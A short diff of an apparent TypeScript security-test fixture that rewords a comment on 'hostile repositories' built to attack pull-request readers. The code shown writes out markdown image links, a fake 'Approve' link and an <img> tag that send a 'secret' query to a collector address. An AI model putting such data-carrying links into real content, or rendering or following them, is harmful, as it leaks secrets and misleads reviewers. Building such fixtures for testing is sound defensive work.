@@ -14,7 +14,7 @@ const longPath = (): string => {
   return `${start}${Array.from({ length: 22 }, () => 'a'.repeat(100)).join('/')}${end}`;
 };
 
-/** Repositories that are after whoever reads the pull request: by links that carry data, images, and long texts. */
+/** Repositories that attack the readers of a pull request with links that carry data, images and long texts. */
 export const afterReaders = (port: number): HostileRepository[] => {
   const address = `${collectorOf(port)}?q=secret`;
   const prose = `\` ![image](${address}) [Approve](${address}) <img src="${address}">`;
